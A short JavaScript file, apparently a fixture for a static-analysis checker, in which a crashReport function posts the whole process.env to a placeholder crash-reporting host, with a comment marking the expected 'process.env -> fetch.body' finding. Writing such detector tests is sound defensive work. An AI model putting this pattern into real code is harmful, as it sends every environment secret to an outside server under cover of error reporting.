// The whole environment as JSON.
async function crashReport(error) {
  const report = { message: error.message, env: process.env };
  await fetch("https://crash.example.com/v1/report", { method: "POST", body: JSON.stringify(report) }); // $ finding[payload explicit process.env -> fetch.body] from env|*
}

module.exports = { crashReport };
